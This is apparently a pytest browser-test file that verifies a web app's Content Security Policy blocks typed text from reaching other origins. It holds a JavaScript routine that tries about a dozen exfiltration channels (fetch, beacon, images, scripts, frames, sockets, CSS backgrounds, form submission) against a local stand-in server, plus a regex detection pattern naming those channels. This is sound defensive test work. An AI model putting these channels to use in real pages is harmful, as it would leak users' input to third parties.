"""Nothing that is typed can leave: other origins are shut by the policy, and what a policy cannot shut is not used."""

import ast
import functools
import gzip
import http.server
import re
import threading
import time

import pytest

from generator.bundle import FORMS, ROOT, WIDGET
from generator.naming import place_of
from tests.browser.conftest import OFTEN_IN_CHROMIUM, SUB_PATH, _Handler, served
from tests.browser.test_way import fill_in_the_answer
from tests.browser.visitor import PlaywrightVisitor, at_rest, ready, wait_for, wait_to_see
from tests.browser.words import CLICHE, PRODUCT_POSTING
from tests.generator.test_headers import rules, said_of

pytestmark = pytest.mark.browser


class _Elsewhere(http.server.BaseHTTPRequestHandler):
    """Another origin that notes whatever reaches it and lets anybody in."""

    def __init__(self, heard, *arguments):
        self.heard = heard
        super().__init__(*arguments)

    def do_GET(self):
        self.heard.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/css" if "style" in self.path else "text/javascript")
        self.end_headers()

    do_POST = do_HEAD = do_OPTIONS = do_GET

    def log_message(self, *arguments):
        pass


@pytest.fixture
def elsewhere():
    """An origin that is not the guide's: its address, and the list of what reached it."""
    heard = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_Elsewhere, heard))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/", heard
    server.shutdown()
    server.server_close()


# Each way out, tried; those that tell when they have failed are waited for. The form comes last, because where it is let through the page is gone.
_WAYS = """async () => {
  const there = "ELSEWHERE", tried = [];
  const settled = (element, set) => tried.push(new Promise((done) => { element.onload = element.onerror = done; set(element); document.body.append(element); setTimeout(done, 1500); }));
  tried.push(fetch(there + "fetch?typed", { mode: "no-cors" }).catch(() => 0));
  tried.push(fetch(there + "post", { method: "POST", body: "typed" }).catch(() => 0));
  try { navigator.sendBeacon(there + "beacon", "typed"); } catch {}
  settled(document.createElement("img"), (one) => { one.src = there + "image"; });
  settled(document.createElement("link"), (one) => { one.rel = "stylesheet"; one.href = there + "style"; });
  settled(document.createElement("link"), (one) => { one.rel = "prefetch"; one.href = there + "prefetch"; });
  settled(document.createElement("link"), (one) => { one.rel = "preload"; one.as = "script"; one.href = there + "preload"; });
  settled(document.createElement("script"), (one) => { one.src = there + "script"; });
  settled(document.createElement("iframe"), (one) => { one.src = there + "frame"; });
  settled(document.createElement("embed"), (one) => { one.src = there + "embed"; });
  settled(document.createElement("video"), (one) => { one.src = there + "media"; });
  tried.push(import(there + "import").catch(() => 0));
  try { const request = new XMLHttpRequest(); request.open("GET", there + "request"); request.send(); tried.push(new Promise((done) => { request.onloadend = done; })); } catch {}
  try { new EventSource(there + "events"); } catch {}
  try { new WebSocket(there.replace("http", "ws") + "socket"); } catch {}
  const box = document.createElement("p");
  box.textContent = "typed";
  box.style.backgroundImage = `url(${there}background)`;
  document.body.append(box);
  // A background is asked for only when the box is painted, and leaving by the form at once would come before that.
  const arrived = () => performance.getEntriesByName(there + "background").length > 0;
  tried.push((async () => { for (let i = 0; i < 60 && !arrived(); i += 1) await new Promise((done) => setTimeout(done, 50)); })());
  await Promise.all(tried);
  const form = Object.assign(document.createElement("form"), { action: there + "form", method: "get" });
  document.body.append(form);
  try { form.submit(); } catch {} // Firefox refuses by throwing
  return tried.length;
}"""


def try_every_way(visitor, address):
    assert visitor.evaluate(_WAYS.replace("ELSEWHERE", address)) >= 10


@pytest.mark.parametrize("engine", OFTEN_IN_CHROMIUM)
def test_no_other_origin_hears_anything(engine, arrive, elsewhere):
    address, heard = elsewhere
    visitor = arrive(engine)
    ready(visitor)
    visitor.fill("#wg-own", "I put off writing documentation")
    try_every_way(visitor, address)
    # The page is still there and answers: neither did the form lead away, nor is anything on its way.
    wait_to_see(visitor, "#wg-heard", "documentation")
    assert heard == []


@pytest.mark.parametrize("engine", OFTEN_IN_CHROMIUM)
def test_the_same_ways_lead_out_where_no_policy_stands(engine, arrive, elsewhere, tmp_path):
    """Otherwise the test above would show nothing."""
    address, heard = elsewhere
    (tmp_path / "assets").mkdir()
    (tmp_path / "assets" / "favicon.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'/>", encoding="utf-8")
    (tmp_path / "index.html").write_text("<!doctype html><html lang=en><title>open</title><body>", encoding="utf-8")
    visitor = arrive(engine)
    with served(tmp_path) as open_address:
        visitor.open(open_address)
        try_every_way(visitor, address)
        wanted = {"fetch", "post", "beacon", "image", "style", "script", "frame", "import", "request", "background", "form"} | ({"prefetch"} if engine == "chromium" else set())
        for _ in range(200):
            if wanted <= {path.strip("/").split("?")[0] for path in heard}:
                break
            time.sleep(0.05)
    assert wanted <= {path.strip("/").split("?")[0] for path in heard}


# --- what a policy cannot shut ------------------------------------------------------------------------------------------

_WAYS_OUT = r"RTCPeerConnection|RTCDataChannel|sendBeacon|new WebSocket|EventSource|WebTransport|XMLHttpRequest|\.submit\(|requestSubmit|window\.open|location\s*=(?!=)|location\.(?:assign|replace|href\s*=(?!=))"
# What is ours uses none. The others' programs use these, named here so that a new version of them cannot bring another unseen; none runs with
# anything that was typed, as the recorded visit below shows.
_OF_OTHERS = {"bundle.": {"XMLHttpRequest", "location.href="}, "core-": {"XMLHttpRequest", "location.href="}, "micropython.mjs": {"XMLHttpRequest"}}


def test_shipped_code_uses_no_way_that_a_policy_cannot_shut(built_site):
    found = {}
    data = [place_of(built_site, "assets/app/" + name) for name in ("late.json", "app.tar.gz", "forms/app.tar.gz")]
    for path in [*built_site.rglob("*.js"), *built_site.rglob("*.mjs"), *data]:
        name = path.relative_to(built_site).as_posix()
        raw = path.read_bytes()
        used = set(re.findall(_WAYS_OUT, (gzip.decompress(raw) if name.endswith(".gz") else raw).decode("utf-8", "replace")))
        if used:
            found[name] = used
    assert found, "the pattern finds what is there"
    for name, used in found.items():
        allowed = set().union(*(ways for start, ways in _OF_OTHERS.items() if name.rpartition("/")[2].startswith(start)))
        assert used <= allowed, (name, used - allowed)


_ADDRESSES = {
    'folder + "core.json"', 'folder + "forms.json"', 'address', 'desk.folder + "late.json"', 'desk.folder + "reading.json"', 'self.folder + profession + ".json"',
    'self.folder + self.state["profession"] + ".json"', 'self.desk.folder + name + ".json"', 'self.desk.folder + profession + "-details.json"'}
# Every name in them is the builder's or one of the professions that the page knows: nothing typed stands in any address.


def test_our_own_code_asks_its_own_site_for_files_of_the_guide_only():
    asked = set()
    for path in sorted(found for folder in (WIDGET, FORMS) for found in folder.rglob("*.py")):
        source = path.read_text(encoding="utf-8")
        assert "window.fetch" not in source or path.name == "page.py" and source.count("window.fetch") == 1, path
        for call in ast.walk(ast.parse(source)):
            if isinstance(call, ast.Call) and getattr(call.func, "attr", getattr(call.func, "id", "")) == "fetch_text":
                asked.add(ast.get_source_segment(source, call.args[0]))
    assert asked == _ADDRESSES
    for path in (ROOT / "docs" / "assets").glob("*.js"):
        assert "fetch(" not in path.read_text(encoding="utf-8"), path


_RECORD = """(() => {
  const used = window.waysUsed = [];
  const note = (name) => (...given) => { used.push(name + " " + String(given[0]).slice(0, 80)); };
  for (const name of ["RTCPeerConnection", "WebSocket", "EventSource", "XMLHttpRequest", "WebTransport", "open"]) if (name in window) window[name] = note(name);
  navigator.sendBeacon = note("sendBeacon");
  HTMLFormElement.prototype.submit = HTMLFormElement.prototype.requestSubmit = note("submit");
  const fetched = window.fetch;
  window.fetch = (...given) => { used.push("fetch " + given[0]); return fetched(...given); };
})()"""


@pytest.mark.xdist_group("chromium")
def test_a_whole_visit_asks_for_nothing_after_loading(arrive):
    """From the posting to the rehearsal and the take-away: no request, no navigation, no connection of any kind."""
    visitor = arrive("chromium", service_workers="block")
    ready(visitor)
    visitor.evaluate(_RECORD)
    moves = []
    visitor.page.on("framenavigated", lambda frame: moves.append(frame.url))
    loaded = len(visitor.requests)
    visitor.fill("#wg-posting", PRODUCT_POSTING)
    visitor.fill("#wg-own", "I struggle with explaining results to business people")
    wait_to_see(visitor, "#wg-verdict", "Deal-breaker risk")
    fill_in_the_answer(visitor)
    for tab in ("rehearse", "take", "review"):
        visitor.click("#wg-tab-" + tab)
        at_rest(visitor)
    visitor.click("#wg-tab-take")
    visitor.click("#wg-make-link")
    wait_for(visitor, "document.querySelector('#wg-taken').textContent", "a word about the link")
    visitor.click("#wg-tab-check")
    visitor.click("#wg-tab-review")
    visitor.fill("#wg-pasted", CLICHE)
    wait_to_see(visitor, "#wg-findings", "perfectionist")
    visitor.click("#wg-tab-build")
    at_rest(visitor)
    visitor.select("#wg-seniority", "senior")
    at_rest(visitor)
    assert visitor.evaluate("window.waysUsed") == []
    assert visitor.requests[loaded:] == [] and moves == [] and len(visitor.page.context.pages) == 1
    assert visitor.errors == []


# --- what a host says with every file -----------------------------------------------------------------------------------

class _SendingHeaders(_Handler):
    """A host that reads ``_headers``."""

    def end_headers(self):
        for name, value in said_of("/" + self.path.split("?")[0].removeprefix(SUB_PATH), self.told):
            self.send_header(name, value)
        super().end_headers()


# Asked from a timer, where the page's policy counts; what the driver runs itself is exempt.
_MAY_EVALUATE = "new Promise((done) => setTimeout(() => { try { done(new Function('return true')()); } catch { done(false); } }))"


def framed(page, address, folder):
    """Whether a page from elsewhere may show the guide inside itself."""
    (folder / "index.html").write_text(f'<!doctype html><html lang=en><title>elsewhere</title><iframe src="{address}"></iframe>', encoding="utf-8")
    with served(folder) as elsewhere:
        page.goto(elsewhere)
        return page.frames[1].query_selector("main") is not None


@pytest.mark.xdist_group("chromium")
def test_a_host_that_sends_the_headers_hinders_nothing_and_lets_no_page_loose(chromium, built_site, site_address, tmp_path):
    _SendingHeaders.told = rules((built_site / "_headers").read_text(encoding="utf-8"))
    context = chromium.new_context()
    visitor = PlaywrightVisitor(context.new_page())
    with served(built_site, _SendingHeaders) as address:
        visitor.open(address + "generator/")
        ready(visitor)
        visitor.fill("#wg-own", "I put off writing documentation")
        wait_to_see(visitor, "#wg-heard", "documentation")
        assert visitor.evaluate(_MAY_EVALUATE)
        wait_for(visitor, "navigator.serviceWorker.controller", "the service worker")
        visitor.open(address)
        assert not visitor.evaluate(_MAY_EVALUATE), "a page is held to its own policy, though the host's permits more"
        visitor.press("/")
        visitor.fill("#wg-search-words", "delegation")
        visitor.page.wait_for_selector("#wg-search-found a")
        assert visitor.errors == []
        assert framed(visitor.page, site_address, tmp_path) and not framed(visitor.page, address, tmp_path)
    context.close()
